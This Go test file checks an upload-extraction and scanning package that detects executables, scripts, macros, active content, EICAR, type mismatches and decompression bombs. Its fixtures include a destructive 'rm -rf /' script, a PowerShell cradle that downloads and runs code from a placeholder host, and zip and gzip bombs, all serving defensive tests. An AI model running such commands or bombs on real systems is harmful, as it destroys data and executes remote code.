package extract

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/aup-dev/aup/internal/fixture"
)

func run(tb testing.TB, name, ct string, data []byte, lim Limits) (*Result, error) {
	tb.Helper()
	res, err := Extract(context.Background(), Upload{R: bytes.NewReader(data), Size: int64(len(data)), Name: name, ContentType: ct, TempDir: tb.TempDir()}, lim)
	if res != nil {
		tb.Cleanup(func() { res.Close() })
	}
	return res, err
}

func joinedText(r *Result) string {
	var b strings.Builder
	for _, p := range r.Parts {
		b.WriteString(p.Text)
		b.WriteString("\n")
	}
	return b.String()
}

func partPaths(r *Result) []string {
	var s []string
	for _, p := range r.Parts {
		s = append(s, p.Path)
	}
	return s
}

func hasSignal(r *Result, k SignalKind, path string) bool {
	for _, s := range r.Signals {
		if s.Kind == k && (path == "" || s.Path == path) {
			return true
		}
	}
	return false
}

func TestExtract(t *testing.T) {
	jpg := mkimage(t, "jpeg", 64, 48)
	tests := []struct {
		name     string
		file     string
		ct       string
		data     []byte
		mt       string
		text     []string // substrings of the collected text
		notText  []string
		paths    []string // part paths, in order (when set)
		signals  []Signal // Kind and Path must match; Detail ignored
		noSignal []SignalKind
		images   []string // image paths
	}{
		{name: "plain text", file: "notes.txt", data: []byte("Buy milk.\nCall the dentist.\n"), mt: TypeText,
			text: []string{"Buy milk.", "dentist"}, paths: []string{"notes.txt"}, noSignal: []SignalKind{TypeMismatch}},
		{name: "utf-8 bom", file: "a.txt", data: []byte("\xef\xbb\xbfhéllo wörld"), mt: TypeText, text: []string{"héllo wörld"}, notText: []string{"\ufeff"}},
		{name: "utf-16 bom", file: "a.txt", data: utf16le("grüße aus Köln"), mt: TypeText, text: []string{"grüße aus Köln"}},
		{name: "latin-1", file: "a.txt", data: []byte("caf\xe9 cr\xe8me br\xfbl\xe9e"), mt: TypeText, text: []string{"café crème brûlée"}},
		{name: "markdown", file: "README.md", data: []byte("# Title\n\nSome **bold** text and a [link](http://x.example).\n\n- one\n- two\n"),
			mt: TypeMarkdown, text: []string{"# Title", "[link](http://x.example)"}},
		{name: "csv", file: "data.csv", data: []byte("name,age,city\nann,31,Oslo\nbob,42,\"Rome, IT\"\n"), mt: TypeCSV, text: []string{"ann,31,Oslo"}},
		{name: "json", file: "x.json", data: []byte(`{"title": "Hello \u00e9\ud83d\ude00", "n": [1, 2.5e3, true, null, {"deep": "value here"}], "key_not_text": 1}`),
			mt: TypeJSON, text: []string{"Hello é😀", "value here"}, notText: []string{"title", "deep", "key_not_text"}},
		{name: "html", file: "page.html", data: []byte(`<!DOCTYPE html><html><head><title>My page</title><style>body{color:red}</style><script>var secret="SCRIPTTEXT";</script></head>
<body><p>Hello &amp; welcome</p><img src="a.png" alt="a cat picture"><a href="http://phish.example/login" onclick="x()">click</a></body></html>`),
			mt: TypeHTML, text: []string{"My page", "Hello & welcome", "a cat picture", "http://phish.example/login", "click"},
			notText: []string{"SCRIPTTEXT", "color:red"}, signals: []Signal{{Kind: ActiveContent, Path: "page.html"}}},
		{name: "svg with script", file: "x.svg", data: []byte(`<svg xmlns="http://www.w3.org/2000/svg"><text>drawn words</text><script>alert(1)</script></svg>`),
			mt: TypeSVG, text: []string{"drawn words"}, notText: []string{"alert"}, signals: []Signal{{Kind: ActiveContent, Path: "x.svg"}}},
		{name: "xml", file: "x.xml", data: []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "BOOM">]><root><a>one &lt;two&gt;</a><b><![CDATA[three & four]]></b><!-- hidden --></root>`),
			mt: TypeXML, text: []string{"one <two>", "three & four"}, notText: []string{"hidden", "BOOM"}},
		{name: "shell script", file: "run.sh", data: []byte("#!/bin/bash\nrm -rf / --no-preserve-root\n"), mt: TypeShell,
			signals: []Signal{{Kind: Script, Path: "run.sh"}}, text: []string{"rm -rf"}},
		{name: "env python", file: "x.txt", data: []byte("#!/usr/bin/env python3\nprint('hi')\n"), mt: TypePython,
			signals: []Signal{{Kind: Script, Path: "x.txt"}, {Kind: TypeMismatch, Path: "x.txt"}}},
		{name: "powershell", file: "notes.txt", data: []byte("$wc = New-Object System.Net.WebClient\n$s = $wc.DownloadString('http://x.example/a')\nInvoke-Expression $s\nWrite-Host done\n"),
			mt: TypePowerShell, signals: []Signal{{Kind: Script, Path: "notes.txt"}, {Kind: TypeMismatch, Path: "notes.txt"}}},
		{name: "markdown about powershell is not a script", file: "notes.md", data: []byte("# Tips\n\n```\nNew-Object System.Net.WebClient\nInvoke-Expression $s\nWrite-Host x\n```\n- one\n"),
			mt: TypeMarkdown, noSignal: []SignalKind{Script}},
		{name: "batch", file: "go.bat", data: []byte("@echo off\nset X=1\ngoto end\n"), mt: TypeBatch, signals: []Signal{{Kind: Script, Path: "go.bat"}}},
		{name: "elf", file: "tool", data: fixture.ELF(), mt: TypeELF, signals: []Signal{{Kind: Executable, Path: "tool"}}},
		{name: "pe named as pdf", file: "invoice.pdf", ct: "application/pdf", data: fixture.PE(), mt: TypePE,
			signals: []Signal{{Kind: Executable, Path: "invoice.pdf"}, {Kind: TypeMismatch, Path: "invoice.pdf"}}},
		{name: "mach-o", file: "a", data: machoThin(), mt: TypeMachO, signals: []Signal{{Kind: Executable, Path: "a"}}},
		{name: "mach-o fat", file: "a", data: machoFat(), mt: TypeMachO, signals: []Signal{{Kind: Executable, Path: "a"}}},
		{name: "java class", file: "A.class", data: javaClass(), mt: TypeClass, signals: []Signal{{Kind: Executable, Path: "A.class"}}},
		{name: "eicar", file: "eicar.com", data: []byte(fixture.EICAR + "\r\n"), mt: TypeText, signals: []Signal{{Kind: EICAR, Path: "eicar.com"}}},
		{name: "png", file: "a.png", ct: "image/png", data: mkimage(t, "png", 30, 20), mt: TypePNG, images: []string{"a.png"}, noSignal: []SignalKind{TypeMismatch}},
		{name: "jpeg declared png", file: "a.png", ct: "image/png", data: jpg, mt: TypeJPEG, images: []string{"a.png"},
			signals: []Signal{{Kind: TypeMismatch, Path: "a.png"}}},
		{name: "gif", file: "a.gif", data: mkimage(t, "gif", 10, 10), mt: TypeGIF, images: []string{"a.gif"}},
		{name: "zip", file: "report.zip", data: fixture.Zip(t,
			fixture.File{Name: "notes.txt", Data: []byte("first note")},
			fixture.File{Name: "dir/", Data: nil},
			fixture.File{Name: "dir/inner.zip", Data: fixture.Zip(t, fixture.File{Name: "deep.txt", Data: []byte("deep note")}, fixture.File{Name: "evil.exe", Data: fixture.PE()})},
			fixture.File{Name: "stored.txt", Data: []byte("stored note"), Stored: true},
			fixture.File{Name: "photo.jpg", Data: jpg},
			fixture.File{Name: "eicar.txt", Data: []byte(fixture.EICAR)},
		), mt: TypeZIP, text: []string{"first note", "deep note", "stored note"},
			paths:   []string{"report.zip/notes.txt", "report.zip/dir/inner.zip/deep.txt", "report.zip/stored.txt", "report.zip/eicar.txt"},
			signals: []Signal{{Kind: Executable, Path: "report.zip/dir/inner.zip/evil.exe"}, {Kind: EICAR, Path: "report.zip/eicar.txt"}},
			images:  []string{"report.zip/photo.jpg"}},
		{name: "encrypted member", file: "x.zip", data: fixture.Zip(t, fixture.File{Name: "secret.exe", Data: []byte("xx"), Flags: 1}, fixture.File{Name: "open.txt", Data: []byte("visible")}),
			mt: TypeZIP, text: []string{"visible"}, signals: []Signal{{Kind: Encrypted, Path: "x.zip/secret.exe"}, {Kind: Executable, Path: "x.zip/secret.exe"}}},
		{name: "tar.gz", file: "a.tgz", data: mkgzip(t, mktar(t, fixture.File{Name: "x/readme.txt", Data: []byte("tar text")}, fixture.File{Name: "x/run.sh", Data: []byte("#!/bin/sh\necho hi\n")})),
			mt: TypeGZIP, text: []string{"tar text"}, paths: []string{"a.tgz/a.tar/x/readme.txt", "a.tgz/a.tar/x/run.sh"},
			signals: []Signal{{Kind: Script, Path: "a.tgz/a.tar/x/run.sh"}}},
		{name: "gzip", file: "log.txt.gz", data: mkgzip(t, []byte("gzipped log line")), mt: TypeGZIP, text: []string{"gzipped log line"}, paths: []string{"log.txt.gz/log.txt"}},
		{name: "docx", file: "letter.docx", ct: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
			data: mkdocx(t, []string{"Dear reader,", "you are a <fine> & kind person."}, fixture.File{Name: "word/media/image1.png", Data: mkimage(t, "png", 8, 8)}),
			mt:   TypeDOCX, text: []string{"Dear reader,\nyou are a <fine> & kind person."}, notText: []string{"NOTTEXT"},
			paths: []string{"letter.docx/word/document.xml"}, images: []string{"letter.docx/word/media/image1.png"}, noSignal: []SignalKind{Macro, TypeMismatch}},
		{name: "docm", file: "letter.docm", data: mkdocx(t, []string{"Enable macros"}, fixture.File{Name: "word/vbaProject.bin", Data: []byte("\xd0\xcf\x11\xe0")}),
			mt: TypeDOCM, signals: []Signal{{Kind: Macro, Path: "letter.docm"}}, noSignal: []SignalKind{TypeMismatch}},
		{name: "docx that is an exe", file: "letter.docx", data: fixture.PE(), mt: TypePE,
			signals: []Signal{{Kind: Executable, Path: "letter.docx"}, {Kind: TypeMismatch, Path: "letter.docx"}}},
		{name: "xlsx", file: "s.xlsx", data: mkxlsx(t, "alpha cell", "beta cell"), mt: TypeXLSX, text: []string{"alpha cell", "beta cell", "inline cell"}},
		{name: "pptx", file: "s.pptx", data: mkpptx(t, "slide words"), mt: TypePPTX, text: []string{"slide words"}},
		{name: "odt", file: "s.odt", data: mkodt(t, "open document words"), mt: TypeODT, text: []string{"Title", "open document words end"}, notText: []string{"NOTTEXT"}},
		{name: "odt macro", file: "s.odt", data: mkodt(t, "x", fixture.File{Name: "Basic/Standard/Module1.xml", Data: []byte("<script:module>Sub Main</script:module>")}),
			mt: TypeODT, signals: []Signal{{Kind: Macro, Path: "s.odt"}}},
		{name: "pdf", file: "doc.pdf", data: mkpdf(t, pdfOpts{pages: [][]string{{"Page one line one", "line (two)"}, {"Second page"}, {"Third page text"}}}),
			mt: TypePDF, text: []string{"Page one line one", "line (two)", "Second page", "Third page text"},
			paths: []string{"doc.pdf#page=1", "doc.pdf#page=2", "doc.pdf#page=3"}, noSignal: []SignalKind{Malformed}},
		{name: "pdf flate and tounicode", file: "doc.pdf", data: mkpdf(t, pdfOpts{compress: true, toUnicode: true, pages: [][]string{{"café 😀 ok"}}}),
			mt: TypePDF, text: []string{"café 😀 ok"}},
		{name: "pdf truncated", file: "doc.pdf", data: mkpdf(t, pdfOpts{noTrailer: true, pages: [][]string{{"still readable"}}}),
			mt: TypePDF, text: []string{"still readable"}, signals: []Signal{{Kind: Malformed, Path: "doc.pdf"}}},
		{name: "pdf wrong lengths", file: "doc.pdf", data: regexp.MustCompile(`/Length \d+`).ReplaceAll(
			mkpdf(t, pdfOpts{compress: true, pages: [][]string{{"length lies"}, {"page two"}}}), []byte("/Length 3")),
			mt: TypePDF, text: []string{"length lies", "page two"}},
		{name: "pdf image", file: "doc.pdf", data: mkpdf(t, pdfOpts{jpeg: jpg, pages: [][]string{{"with image"}}}),
			mt: TypePDF, text: []string{"with image"}, images: []string{"doc.pdf#page=1&image=Im0"}},
		{name: "pdf encrypted", file: "doc.pdf", data: mkpdf(t, pdfOpts{encrypt: true, pages: [][]string{{"secret"}}}),
			mt: TypePDF, notText: []string{"secret"}, signals: []Signal{{Kind: Encrypted, Path: "doc.pdf"}}},
		{name: "pdf javascript", file: "doc.pdf", data: mkpdf(t, pdfOpts{javascript: true, pages: [][]string{{"x"}}}),
			mt: TypePDF, signals: []Signal{{Kind: ActiveContent, Path: "doc.pdf"}}},
		{name: "truncated zip", file: "a.zip", data: fixture.Zip(t, fixture.File{Name: "a.txt", Data: []byte("hello")})[:40], mt: TypeZIP,
			signals: []Signal{{Kind: Malformed, Path: "a.zip"}}},
		{name: "rar", file: "a.rar", data: []byte("Rar!\x1a\x07\x01\x00rest"), mt: TypeRAR, signals: []Signal{{Kind: Unscanned, Path: "a.rar"}}},
		{name: "legacy office with macros", file: "a.doc", data: append([]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), append(make([]byte, 600), oleVBA...)...),
			mt: TypeOLE, signals: []Signal{{Kind: Macro, Path: "a.doc"}, {Kind: Unscanned, Path: "a.doc"}}},
		{name: "empty", file: "", data: nil, mt: TypeText},
		{name: "binary junk", file: "x.bin", data: []byte("\x00\x01\x02\x03garbage\x00"), mt: TypeOctet},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res, err := run(t, tc.file, tc.ct, tc.data, Limits{})
			if err != nil {
				t.Fatalf("Extract: %v", err)
			}
			if res.MediaType != tc.mt {
				t.Errorf("MediaType = %q, want %q", res.MediaType, tc.mt)
			}
			text := joinedText(res)
			for _, s := range tc.text {
				if !strings.Contains(text, s) {
					t.Errorf("text lacks %q; got %q", s, text)
				}
			}
			for _, s := range tc.notText {
				if strings.Contains(text, s) {
					t.Errorf("text has %q; got %q", s, text)
				}
			}
			if tc.paths != nil && strings.Join(partPaths(res), "|") != strings.Join(tc.paths, "|") {
				t.Errorf("part paths = %q, want %q", partPaths(res), tc.paths)
			}
			for _, s := range tc.signals {
				if !hasSignal(res, s.Kind, s.Path) {
					t.Errorf("no %s signal at %q; got %+v", s.Kind, s.Path, res.Signals)
				}
			}
			for _, k := range tc.noSignal {
				if hasSignal(res, k, "") {
					t.Errorf("unexpected %s signal: %+v", k, res.Signals)
				}
			}
			var imgs []string
			for _, im := range res.Images {
				imgs = append(imgs, im.Path)
				rc, err := im.Open()
				if err != nil {
					t.Fatalf("Open %s: %v", im.Path, err)
				}
				b, err := io.ReadAll(rc)
				rc.Close()
				if err != nil || Sniff(b) != im.MediaType {
					t.Errorf("image %s: %d bytes sniffed %s, err %v", im.Path, len(b), Sniff(b), err)
				}
				if im.Width <= 0 || im.Height <= 0 {
					t.Errorf("image %s: size %dx%d", im.Path, im.Width, im.Height)
				}
			}
			if strings.Join(imgs, "|") != strings.Join(tc.images, "|") {
				t.Errorf("images = %q, want %q", imgs, tc.images)
			}
		})
	}
}

func TestLimits(t *testing.T) {
	zeros := bytes.Repeat([]byte{0}, 10<<20)
	spaces := bytes.Repeat([]byte{' '}, 10<<20)
	var parts []fixture.File
	for i := range 12 {
		parts = append(parts, fixture.File{Name: fmt.Sprintf("p%d.txt", i), Data: bytes.Repeat([]byte("abcdefgh"), 256<<10)})
	}
	nest := func(depth int) []byte {
		data := fixture.Zip(t, fixture.File{Name: "core.txt", Data: []byte("at the bottom")})
		for i := 0; i < depth; i++ {
			data = fixture.Zip(t, fixture.File{Name: "level.zip", Data: data})
		}
		return data
	}
	var many []fixture.File
	for i := range 20 {
		many = append(many, fixture.File{Name: strings.Repeat("x", i+1) + ".txt", Data: []byte("x")})
	}
	tests := []struct {
		name  string
		file  string
		data  []byte
		lim   Limits
		kind  Kind
		limit string
		path  string
	}{
		{name: "declared ratio bomb", file: "bomb.zip", data: fixture.Zip(t, fixture.File{Name: "zeros.bin", Data: zeros}), kind: Unprocessable, limit: "MaxRatio", path: "bomb.zip/zeros.bin"},
		{name: "lying ratio bomb", file: "bomb.zip", data: lieSizes(fixture.Zip(t, fixture.File{Name: "a.txt", Data: spaces})), kind: Unprocessable, limit: "MaxRatio", path: "bomb.zip/a.txt"},
		{name: "gzip bomb declared", file: "bomb.gz", data: mkgzip(t, zeros), kind: Unprocessable, limit: "MaxRatio", path: "bomb.gz"},
		{name: "gzip bomb lying", file: "bomb.txt.gz", data: lieISize(mkgzip(t, spaces)), kind: Unprocessable, limit: "MaxRatio", path: "bomb.txt.gz/bomb.txt"},
		{name: "bomb image", file: "a.zip", data: lieSizes(fixture.Zip(t, fixture.File{Name: "a.png", Data: append(mkimage(t, "png", 4, 4), zeros...)})), kind: Unprocessable, limit: "MaxRatio", path: "a.zip/a.png"},
		{name: "overlapping entries", file: "zbsm.zip", data: overlapZip(t), kind: Unprocessable, path: "zbsm.zip/b.txt"},
		{name: "too deep", file: "42.zip", data: nest(4), kind: Unprocessable, limit: "MaxDepth", path: "42.zip/level.zip/level.zip/level.zip"},
		{name: "too many members", file: "many.zip", data: fixture.Zip(t, many...), lim: Limits{MaxMembers: 10}, kind: TooLarge, limit: "MaxMembers", path: "many.zip"},
		{name: "too much uncompressed", file: "big.zip", data: fixture.Zip(t, fixture.File{Name: "a.txt", Data: bytes.Repeat([]byte("hello world "), 200_000)}),
			lim: Limits{MaxUncompressed: 1 << 20}, kind: TooLarge, limit: "MaxUncompressed", path: "big.zip/a.txt"},
		{name: "pixel bomb", file: "huge.png", data: fixture.PNGHeader(100_000, 100_000), kind: Unprocessable, limit: "MaxImagePixels", path: "huge.png"},
		{name: "pixel bomb in zip", file: "a.zip", data: fixture.Zip(t, fixture.File{Name: "huge.png", Data: fixture.PNGHeader(20_000, 20_000)}), kind: Unprocessable, limit: "MaxImagePixels", path: "a.zip/huge.png"},
		{name: "total ratio", file: "t.zip", data: fixture.Zip(t, parts...),
			lim: Limits{MaxRatio: 1e6, MaxTotalRatio: 50, MaxText: 64 << 20}, kind: Unprocessable, limit: "MaxTotalRatio", path: "t.zip/p8.txt"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			res, err := run(t, tc.file, "", tc.data, tc.lim)
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("err = %v (result nil: %v), want *Error", err, res == nil)
			}
			if e.Kind != tc.kind || e.Limit != tc.limit || e.Path != tc.path {
				t.Errorf("error = %+v, want kind %s limit %q path %q", e, tc.kind, tc.limit, tc.path)
			}
			if !strings.Contains(e.Error(), tc.path) || (tc.limit != "" && !strings.Contains(e.Error(), tc.limit)) {
				t.Errorf("message %q does not name the limit and path", e.Error())
			}
		})
	}
	t.Run("depth at the limit is fine", func(t *testing.T) {
		res, err := run(t, "ok.zip", "", nest(2), Limits{})
		if err != nil || !strings.Contains(joinedText(res), "at the bottom") {
			t.Fatalf("err %v, text %q", err, joinedText(res))
		}
	})
}

func TestTextLimit(t *testing.T) {
	var files []fixture.File
	for i := range 10 {
		files = append(files, fixture.File{Name: string(rune('a'+i)) + ".txt", Data: bytes.Repeat([]byte("wörd "), 100)})
	}
	files = append(files, fixture.File{Name: "z.exe", Data: fixture.ELF()})
	res, err := run(t, "t.zip", "", fixture.Zip(t, files...), Limits{MaxText: 1001})
	if err != nil {
		t.Fatal(err)
	}
	if !res.TextTruncated || res.Text() > 1001 || res.Text() < 990 {
		t.Errorf("truncated %v, %d bytes", res.TextTruncated, res.Text())
	}
	for _, p := range res.Parts {
		if !strings.HasPrefix(p.Text, "wörd") || strings.ContainsRune(p.Text, '\uFFFD') {
			t.Errorf("part %s cut badly: %q", p.Path, p.Text)
		}
	}
	// Signals are still found after the text is full.
	if !hasSignal(res, Executable, "t.zip/z.exe") {
		t.Errorf("signals after truncation: %+v", res.Signals)
	}
}

func TestPDFPages(t *testing.T) {
	pages := make([][]string, 30)
	for i := range pages {
		pages[i] = []string{"page text"}
	}
	res, err := run(t, "d.pdf", "", mkpdf(t, pdfOpts{pages: pages}), Limits{MaxPages: 10})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Parts) != 10 || !res.TextTruncated {
		t.Errorf("%d parts, truncated %v", len(res.Parts), res.TextTruncated)
	}
}

func TestCancel(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	data := fixture.Zip(t, fixture.File{Name: "a.txt", Data: []byte("x")})
	_, err := Extract(ctx, Upload{R: bytes.NewReader(data), Size: int64(len(data))}, Limits{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v", err)
	}
}

// failingReader fails every read: an I/O error is not a malformed file.
type failingReader struct{}

func (failingReader) ReadAt([]byte, int64) (int, error) { return 0, errors.New("disk on fire") }

func TestIOError(t *testing.T) {
	_, err := Extract(context.Background(), Upload{R: failingReader{}, Size: 100}, Limits{})
	var e *Error
	if err == nil || errors.As(err, &e) || !strings.Contains(err.Error(), "disk on fire") {
		t.Fatalf("err = %v", err)
	}
}

func TestSniffClaims(t *testing.T) {
	tests := []struct {
		sniffed, claimed string
		ok               bool
	}{
		{TypeCSV, TypeText, true},
		{TypeText, TypeCSV, true},
		{TypeDOCX, TypeZIP, true},
		{TypeZIP, TypeDOCX, false},
		{TypeDOCM, TypeDOCX, true},
		{TypeShell, TypeText, false},
		{TypeText, TypeShell, true},
		{TypePE, TypePDF, false},
		{TypeJPEG, "image/jpg", false}, // aliases are resolved by claimedType, not here
	}
	for _, tc := range tests {
		if got := compatible(tc.sniffed, tc.claimed); got != tc.ok {
			t.Errorf("compatible(%s, %s) = %v", tc.sniffed, tc.claimed, got)
		}
	}
	if claimedType("image/jpg; charset=x") != TypeJPEG || claimedType("application/octet-stream") != "" || claimedType("%%") != "" {
		t.Error("claimedType")
	}
}
